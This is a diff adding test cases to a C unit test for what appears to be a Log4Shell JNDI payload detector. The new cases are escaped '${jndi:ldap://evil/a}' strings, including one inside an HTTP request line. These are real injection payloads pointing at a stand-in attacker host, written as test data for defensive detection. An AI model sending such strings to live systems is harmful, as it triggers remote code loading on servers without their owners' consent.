@@ -118,6 +118,9 @@ static void substitution_corners(void **state) {
     /* A later "${" re-runs substitution over the whole message, so an
      * escaped payload fires when another expression follows or precedes. */
     JNDI("$${jndi:ldap://x/7/${a}}", "ldap://x/7/${a}");
+    /* ... even when that later "${" is never closed. */
+    JNDI("$${jndi:ldap://evil/a}${", "ldap://evil/a");
+    JNDI("GET /?q=$${jndi:ldap://evil/a}${ HTTP/1.1", "ldap://evil/a");
     /* Two payloads, two lookups. */
     JNDI("${jndi:ldap://a/1} and ${jndi:rmi://b/2}", "ldap://a/1", "rmi://b/2");
     /* date: with an unquoted letter formats the current time: no 'j'. */
